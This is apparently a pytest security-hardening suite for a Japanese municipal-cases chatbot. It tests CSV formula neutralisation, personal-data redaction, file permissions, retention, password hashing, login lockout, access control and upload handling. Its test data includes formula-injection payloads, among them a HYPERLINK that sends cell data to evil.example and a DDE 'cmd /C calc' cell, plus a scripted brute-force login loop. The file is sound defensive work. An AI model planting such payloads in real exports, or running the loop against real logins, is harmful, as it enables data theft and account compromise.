"""Hardening (issue #11), each attack reproduced: formula cells in the CSVs, personal data at
rest, file modes, retention, hashed passwords and the brute-force loop through the real login,
private events called through the raw Gradio queue by a non-admin, rejected and old uploads,
and `chatbot ingest` on a named pipe."""
import csv
import hashlib
import json
import os
import sqlite3
import stat
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from types import SimpleNamespace

import httpx
import pytest
from click.testing import CliRunner

from chatbot import Answer, Citation, Settings, feedback, privacy
from chatbot.web import admin, auth, cases
from conftest import FIXTURES, ROOT, fake_bot_over_copy, serving
from core.cases import Case

CHATBOT = str(Path(sys.executable).parent / "chatbot")
PHONE_Q = "担当の090-1234-5678です。厚木市の事例は？"
FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"詳細")', "+1+2", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def answer(question: str, cases_=("神奈川県厚木市",)) -> Answer:
    cites = tuple(Citation(i, c, c, "関東", "市区町村", "神奈川県", "引用文。", 0.1, "参考:x", 0)
                  for i, c in enumerate(cases_, 1))
    return Answer(question, "記事には次の記述があります。", cites)


# --- CSV formula injection -------------------------------------------------------------------

def test_feedback_export_neutralises_formula_cells_in_a_private_file(data_dir, tmp_path):
    from chatbot.tools.cli import main

    for i, text in enumerate(FORMULAS):
        feedback.record_feedback(data_dir, {"question": text, "answer": text, "cited": [text]}, True, text,
                                 user=text)
    out = tmp_path / "fb.csv"
    r = CliRunner().invoke(main, ["--data-dir", str(data_dir), "feedback", "export", "--out", str(out)])
    assert r.exit_code == 0, r.output
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    for row, text in zip(rows, FORMULAS):
        for column in ("question", "answer", "comment", "user", "cited"):
            assert row[column] == "'" + text.strip() if column == "comment" else row[column] == "'" + text
    assert mode(out) == 0o600


def test_a_cell_longer_than_a_spreadsheet_holds_is_cut_and_says_so(data_dir, tmp_path):
    from chatbot.csvsafe import EXCEL_CELL
    from chatbot.tools.cli import main

    long = "=" + "厚木市、" * 20000      # a feedback row on the answer to a list of thousands
    feedback.record_feedback(data_dir, {"question": "どこ？", "answer": long, "cited": []}, True, "次の行")
    feedback.record_feedback(data_dir, {"question": "二行目", "answer": "短い", "cited": []}, False)
    out = tmp_path / "fb.csv"
    assert CliRunner().invoke(main, ["--data-dir", str(data_dir), "feedback", "export", "--out", str(out)]).exit_code == 0
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows[0]["answer"]) == EXCEL_CELL and rows[0]["answer"].startswith("'=厚木市、")
    assert rows[0]["answer"].endswith("80,001文字のうち先頭だけを出力）") and rows[0]["comment"] == "次の行"
    assert (rows[1]["question"], rows[1]["answer"]) == ("二行目", "短い")
    assert len(feedback.feedback_rows(data_dir)[0]["answer"]) == 80001      # the database keeps it all


def test_cases_csv_neutralises_formulas_and_is_never_a_planted_file(tmp_path, monkeypatch):
    evil = Case(id="=HYPERLINK(1)", title='=HYPERLINK("http://evil.example","開く")', region="@関東",
                level="市区町村", prefecture="+県", body="-1+1 と書かれた本文。\n二行目", source="\t=1",
                position=1, article="記事", sentences=("-1+1 と書かれた本文。",))
    rows = [cases.CaseRow("a:" + evil.id, evil, {}, {})]
    # The old, predictable path in the temp folder, with a file planted by another local user.
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    digest = hashlib.sha1("\n".join(f"{r.key}\x1f{r.case.content_hash}\x1f{sorted(r.facets)}"
                                    for r in rows).encode("utf-8")).hexdigest()[:16]
    planted = tmp_path / "jichitai-cases" / digest / "jichitai_cases.csv"
    planted.parent.mkdir(parents=True)
    planted.write_text("事例\n=CMD|' /C calc'!A0\n", encoding="utf-8")
    path = cases.write_csv(rows)
    assert path != planted and path.read_bytes().startswith(b"\xef\xbb\xbf")
    with open(path, encoding="utf-8-sig", newline="") as fh:
        header, row = list(csv.reader(fh))
    assert row[:4] == ["'" + evil.title, "'@関東", "市区町村", "'+県"]
    assert row[-2:] == ["'-1+1 と書かれた本文。\n二行目", "'\t=1"]
    assert mode(path) == 0o600 and mode(path.parent.parent) == 0o700            # mkdtemp: private
    assert path.parent.parent.name.startswith("jichitai-cases-") and path.parent.parent != planted.parent.parent


# --- personal data at rest -------------------------------------------------------------------

def test_personal_data_spans_map_to_the_text_as_typed():
    text = "ＭｙＮｏ：１２３４－５６７８－９０１２、連絡は a.b@example.jp か 03(1234)5678 まで"
    found = privacy.find_personal_data(text)
    assert [(f.kind, text[f.start:f.end]) for f in found] == [
        ("my_number", "１２３４－５６７８－９０１２"), ("email", "a.b@example.jp"), ("phone", "03(1234)5678")]
    assert privacy.personal_data_kinds(text) == ["my_number", "phone", "email"]
    assert privacy.redact(text) == "ＭｙＮｏ：［個人番号］、連絡は ［メールアドレス］ か ［電話番号］ まで"
    assert privacy.redact("厚木市の事例は？") == "厚木市の事例は？" and privacy.find_personal_data("") == []
    named = "山田太郎さんの生年月日は1980年1月2日です"
    assert privacy.redact(named) == "［氏名・生年月日］の［氏名・生年月日］です"


def test_flagged_questions_are_stored_redacted_with_a_keyed_hash(data_dir):
    first = feedback.log_question(data_dir, "staff", answer(PHONE_Q), warned=True)
    feedback.log_question(data_dir, "staff", answer(PHONE_Q))
    feedback.log_question(data_dir, "staff", answer("mail: sato@city.example.lg.jp 厚木市は？"))
    feedback.log_question(data_dir, "staff", answer("厚木市は？"))
    rows = feedback.audit_rows(data_dir)
    assert [r["question"] for r in rows] == ["担当の［電話番号］です。厚木市の事例は？"] * 2 + \
        ["mail: ［メールアドレス］ 厚木市は？", "厚木市は？"]
    assert [json.loads(r["personal"]) for r in rows] == [["phone"], ["phone"], ["email"], []]
    hashes = [r["question_hash"] for r in rows]
    assert hashes[0] == hashes[1] and len(set(hashes)) == 3 and len(hashes[0]) == 64
    assert hashes[0] != hashlib.sha256(PHONE_Q.encode()).hexdigest()       # keyed: guesses cannot be tested
    feedback.record_feedback(data_dir, {"audit_id": first, "question": PHONE_Q, "answer": "a 090-1234-5678",
                                        "cited": []}, False, "折り返しは 090-1234-5678 へ")
    [row] = feedback.feedback_rows(data_dir)
    assert "5678" not in json.dumps(row, ensure_ascii=False) and "［電話番号］" in row["comment"]
    raw = (data_dir / feedback.DB_NAME).read_bytes()
    assert "090-1234-5678".encode() not in raw and b"sato@city" not in raw


def test_chat_api_callers_are_told_and_the_audit_log_stores_it_redacted(fake_index_dir, tmp_path):
    from gradio_client import Client

    bot = fake_bot_over_copy(fake_index_dir, tmp_path / "data")
    with serving(bot) as url:
        client = Client(url, verbose=False)
        flagged = client.predict(PHONE_Q, api_name="/chat")[0]
        plain = client.predict("厚木市の事例は？", api_name="/chat")[0]
    assert flagged["personal_data"] == ["phone"] and flagged["question"] == PHONE_Q   # the caller gets it all
    assert "personal_data" not in plain
    rows = feedback.audit_rows(bot.data_dir)
    assert [r["question"] for r in rows] == ["担当の［電話番号］です。厚木市の事例は？", "厚木市の事例は？"]
    assert rows[0]["warned"] == 1 and json.loads(rows[0]["personal"]) == ["phone"]


def test_an_old_audit_log_is_redacted_when_first_opened(data_dir):
    data_dir.mkdir(parents=True)
    with sqlite3.connect(data_dir / feedback.DB_NAME) as con:     # the schema before issue #11
        con.executescript(
            "CREATE TABLE audit (id INTEGER PRIMARY KEY AUTOINCREMENT, time TEXT NOT NULL, user TEXT NOT NULL "
            "DEFAULT '', question TEXT NOT NULL, cited TEXT NOT NULL DEFAULT '[]', kind TEXT NOT NULL DEFAULT '', "
            "filters TEXT NOT NULL DEFAULT '{}', warned INTEGER NOT NULL DEFAULT 0);")
        con.execute("INSERT INTO audit (time, question, warned) VALUES ('2024-01-01T00:00:00+09:00', ?, 1)",
                    (PHONE_Q,))
    assert [r["question"] for r in feedback.audit_rows(data_dir)] == ["担当の［電話番号］です。厚木市の事例は？"]
    assert mode(data_dir / feedback.DB_NAME) == 0o600


def test_retention_purges_old_rows_and_the_cli_does_it_on_demand(data_dir):
    from chatbot.tools.cli import main

    for q in ("古い質問", "新しい質問"):
        feedback.record_feedback(data_dir, {"audit_id": feedback.log_question(data_dir, "", answer(q)),
                                            "question": q}, True)
    with sqlite3.connect(data_dir / feedback.DB_NAME) as con:
        for table in ("audit", "feedback"):
            con.execute(f"UPDATE {table} SET time = '2020-01-01T09:00:00+09:00' WHERE question = '古い質問'")
    runner = CliRunner()
    r = runner.invoke(main, ["--data-dir", str(data_dir), "audit", "purge"])
    assert r.exit_code == 1 and "--days" in r.output and "Traceback" not in r.output
    r = runner.invoke(main, ["--data-dir", str(data_dir), "audit", "purge", "--days", "30"])
    assert r.exit_code == 0 and "deleted 1 audit rows and 1 feedback rows older than 30 days" in r.output
    assert [r["question"] for r in feedback.audit_rows(data_dir)] == ["新しい質問"]
    assert [r["question"] for r in feedback.feedback_rows(data_dir)] == ["新しい質問"]
    # configured: the app purges by itself as questions come in
    with sqlite3.connect(data_dir / feedback.DB_NAME) as con:
        con.execute("UPDATE audit SET time = '2020-01-01T09:00:00+09:00'")
    feedback._purged.clear()
    feedback.log_question(data_dir, "", answer("今日の質問"), retention_days=30)
    assert [r["question"] for r in feedback.audit_rows(data_dir)] == ["今日の質問"]
    assert b"2020-01-01" not in (data_dir / feedback.DB_NAME).read_bytes()   # secure_delete


def test_files_and_folders_in_the_data_directory_are_owner_only(data_dir, fake):
    from chatbot import Chatbot

    old = os.umask(0o022)                                   # the usual umask: 0644 / 0755
    try:
        bot = Chatbot(Settings(data_dir=data_dir, embeddings="fake"), embeddings=fake)
        bot.ingest(FIXTURES.parent.parent / "corpus")
        html, ok = admin.apply(bot, str(FIXTURES / "next_month.txt"))
        assert ok, html
        feedback.record_feedback(data_dir, {"audit_id": feedback.log_question(data_dir, "", answer("q")),
                                            "question": "q"}, True)
    finally:
        os.umask(old)
    ours = [data_dir, data_dir / "versions", data_dir / "uploads", data_dir / "CURRENT",
            data_dir / "history.jsonl", data_dir / ".ingest.lock", data_dir / feedback.DB_NAME,
            data_dir / feedback.KEY_NAME]
    ours += [p for p in (data_dir / "versions").iterdir()] + list((data_dir / "versions").glob("*/manifest.json"))
    ours += list((data_dir / "uploads").iterdir())
    assert len(ours) >= 13
    wrong = {str(p.relative_to(data_dir.parent)): oct(mode(p)) for p in ours
             if mode(p) != (0o700 if p.is_dir() else 0o600)}
    assert not wrong


# --- login -----------------------------------------------------------------------------------

def test_passwords_are_salted_hashes_and_plain_text_still_loads_with_a_warning(caplog):
    h1, h2 = auth.hash_password("secret"), auth.hash_password("secret")
    assert h1 != h2 and h1.startswith("scrypt$") and "secret" not in h1 and ":" not in h1
    assert auth.verify_password(h1, "secret") and not auth.verify_password(h1, "Secret")
    users = auth.parse_users(f"boss:{h1}:admin\nsato:plain")
    assert users["boss"].admin and users["boss"].hashed and not users["sato"].hashed
    assert auth.authenticate(users, "boss", "secret") and not auth.authenticate(users, "boss", h1)
    assert auth.authenticate(users, "sato", "plain")
    warned = [r.getMessage() for r in caplog.records if r.name == "chatbot.web.auth"]
    assert len(warned) == 1 and "sato" in warned[0] and "plain" not in warned[0].replace("plain-text", "")
    with pytest.raises(auth.UsersError, match="malformed password hash"):
        auth.parse_users("boss:scrypt$1$2$x:admin")


def test_cli_users_add_prompts_twice_and_writes_one_hashed_line(tmp_path):
    from chatbot.tools.cli import main

    path = tmp_path / "users.txt"
    path.write_text("# staff\nsato:old-plain\n", encoding="utf-8")
    runner = CliRunner()
    r = runner.invoke(main, ["users", "add", "boss", "--admin", "--file", str(path)], input="pw-1\npw-1\n")
    assert r.exit_code == 0 and "added boss (admin)" in r.output
    r = runner.invoke(main, ["users", "add", "sato", "--file", str(path)], input="new-pw\nnew-pw\n")
    assert r.exit_code == 0 and "updated sato" in r.output
    lines = path.read_text(encoding="utf-8").splitlines()
    assert lines[0] == "# staff" and len(lines) == 3 and "pw-1" not in path.read_text() and "new-pw" not in lines[1]
    users = auth.load_users(Settings(users_file=str(path)))
    assert auth.authenticate(users, "boss", "pw-1") and users["boss"].admin
    assert auth.authenticate(users, "sato", "new-pw") and not auth.authenticate(users, "sato", "old-plain")
    assert mode(path) == 0o600
    r = runner.invoke(main, ["users", "add", "kato", "--file", str(path)], input="a\nb\n\n")
    assert r.exit_code != 0 and "kato" not in path.read_text()       # the two entries differ: nothing written
    r = runner.invoke(main, ["users", "add", "kato"], input="a\na\n")
    assert r.exit_code == 1 and "--file" in r.output


def test_throttle_locks_a_user_everywhere_and_an_address_for_everyone():
    now = [0.0]
    t = auth.Throttle(limit=5, lockout=60, clock=lambda: now[0])
    users = auth.parse_users(f"boss:{auth.hash_password('right')}\nsato:{auth.hash_password('mine')}")
    for address in ("10.0.0.1", "10.0.0.2", "10.0.0.3", "10.0.0.4", "10.0.0.5"):
        assert not auth.login(users, t, "boss", "wrong", address)
    assert not auth.login(users, t, "boss", "right", "10.0.0.9")           # the user is locked
    assert auth.login(users, t, "sato", "mine", "10.0.0.9")                # others are not
    for name in ("a", "b", "c", "d", "e"):
        assert not auth.login(users, t, name, "x", "10.0.0.66")
    assert not auth.login(users, t, "sato", "mine", "10.0.0.66")           # the address is locked
    now[0] = 61
    assert auth.login(users, t, "boss", "right", "10.0.0.1")
    for _ in range(4):                                                   # a success resets the count
        assert not auth.login(users, t, "boss", "wrong", "10.0.0.1")
    assert auth.login(users, t, "boss", "right", "10.0.0.1")


def login(url: str, name: str, password: str) -> httpx.Response:
    return httpx.post(f"{url}login", data={"username": name, "password": password}, timeout=30)


@pytest.fixture(scope="module")
def login_server(fake_index_dir, tmp_path_factory):
    """Login on: boss (admin) and staff, hashed; a short lockout so the test can wait it out."""
    bot = fake_bot_over_copy(fake_index_dir, tmp_path_factory.mktemp("login") / "data",
                             login_lockout_seconds=3)
    users = auth.parse_users(f"boss:{auth.hash_password('pw-boss')}:admin\nstaff:{auth.hash_password('pw-staff')}")
    with serving(bot, users) as url:
        yield url, bot


def test_brute_force_through_the_real_login_is_locked_out(login_server, caplog):
    url, _bot = login_server
    for n in range(5):
        assert login(url, "boss", f"guess{n}").status_code == 400
    locked = time.perf_counter()
    assert login(url, "boss", "pw-boss").status_code == 400          # locked: even the right password
    assert login(url, "staff", "pw-staff").status_code == 400        # and this address, for everyone
    time.sleep(max(0.0, 3.3 - (time.perf_counter() - locked)))
    r = login(url, "boss", "pw-boss")
    assert r.status_code == 200 and r.json() == {"success": True}
    for n in range(4):
        assert login(url, "boss", f"again{n}").status_code == 400
    assert login(url, "boss", "pw-boss").status_code == 200          # the success reset the count
    lines = [r.getMessage() for r in caplog.records if r.name == "chatbot.web.auth"]
    assert len(lines) == 11 and not any("guess" in line or "pw-" in line for line in lines)


def queue_call(client: httpx.Client, url: str, api_name: str, data: list) -> list:
    """Call an event by its index through Gradio's queue, as a page does (private events too)."""
    config = client.get(f"{url}config").json()
    [fn] = [d["id"] for d in config["dependencies"] if d.get("api_name") == api_name]
    session = f"s{time.monotonic_ns()}"
    r = client.post(f"{url}gradio_api/queue/join", json={"data": data, "fn_index": fn, "session_hash": session,
                                                         "event_data": None, "trigger_id": None})
    assert r.status_code == 200, r.text
    with client.stream("GET", f"{url}gradio_api/queue/data", params={"session_hash": session}) as s:
        for line in s.iter_lines():
            msg = json.loads(line[5:]) if line.startswith("data:") else {}
            if msg.get("msg") == "process_completed":
                assert msg["success"], msg
                return msg["output"]["data"]
    raise AssertionError("no result")


def test_private_events_give_non_admins_nothing_of_the_admin_data(login_server):
    url, bot = login_server
    version = (bot.data_dir / "CURRENT").read_text().strip()
    for name, password, is_admin in (("staff", "pw-staff", False), ("boss", "pw-boss", True)):
        with httpx.Client(timeout=60) as client:
            assert client.post(f"{url}login", data={"username": name, "password": password}).status_code == 200
            for api_name in ("refresh", "on_load"):
                out = queue_call(client, url, api_name, ["", "", "", ""])   # the cases filters
                text = json.dumps(out, ensure_ascii=False)
                assert (version in text and "公開中の索引" in text) is is_admin, (name, api_name)
                assert ("取り込み" not in text or is_admin) and '"data": [[' in text   # the cases table, for all
            r = client.post(f"{url}gradio_api/upload", files={"files": ("a.txt", b"x", "text/plain")})
            assert r.status_code == (200 if is_admin else 403)


# --- uploads ---------------------------------------------------------------------------------

def test_rejected_uploads_are_deleted(fake_index_dir, tmp_path):
    bot = fake_bot_over_copy(fake_index_dir, tmp_path / "data")
    gradio_folder = tmp_path / "gradio" / "abc"
    gradio_folder.mkdir(parents=True)
    upload = gradio_folder / "binary.txt"
    upload.write_bytes((FIXTURES / "binary.txt").read_bytes())
    html, ok = admin.apply(bot, str(upload))
    assert not ok and not list((bot.data_dir / "uploads").iterdir())        # no copy kept
    html, ok = admin.preview(bot, str(upload), uploads=tmp_path / "gradio")
    assert not ok and "取り込めません" in html and not upload.exists()       # Gradio's copy deleted
    html, ok = admin.preview(bot, str(FIXTURES / "binary.txt"), uploads=tmp_path / "gradio")
    assert not ok and (FIXTURES / "binary.txt").exists()                     # never outside that folder
    html, ok = admin.apply(bot, str(FIXTURES / "next_month.txt"))
    assert ok and len(list((bot.data_dir / "uploads").iterdir())) == 1       # an applied one is kept


def test_uploads_are_pruned_once_old(fake_index_dir, tmp_path, monkeypatch):
    monkeypatch.setattr(admin, "UPLOAD_MAX_AGE", 2, raising=False)           # a day, in the app
    bot = fake_bot_over_copy(fake_index_dir, tmp_path / "data")
    with serving(bot) as url:
        r = httpx.post(f"{url}gradio_api/upload", files={"files": ("old.txt", b"x" * 1000, "text/plain")},
                       timeout=60)
        path = Path(r.json()[0])
        assert path.exists()
        deadline = time.monotonic() + 15
        while path.exists() and time.monotonic() < deadline:
            time.sleep(0.5)
        assert not path.exists()


# --- ingest ----------------------------------------------------------------------------------

def test_ingest_refuses_a_named_pipe_at_once(tmp_path, data_dir):
    from ingest.read import ReadError, read_text

    fifo = tmp_path / "article.txt"
    os.mkfifo(fifo)
    p = subprocess.run([CHATBOT, "ingest", str(fifo)], capture_output=True, text=True, timeout=60, cwd=ROOT,
                       env={**os.environ, "CHATBOT_EMBEDDINGS": "fake"})          # used to wait forever
    assert p.returncode == 1 and "Traceback" not in p.stderr
    assert p.stderr.strip() == f"Error: {fifo}: a named pipe, not an article file or folder; pass the saved article file"
    with pytest.raises(ReadError, match="named pipe"):
        read_text(fifo)
    html, ok = admin.apply(SimpleNamespace(data_dir=data_dir), str(fifo))
    assert not ok and "通常のファイルではありません" in html
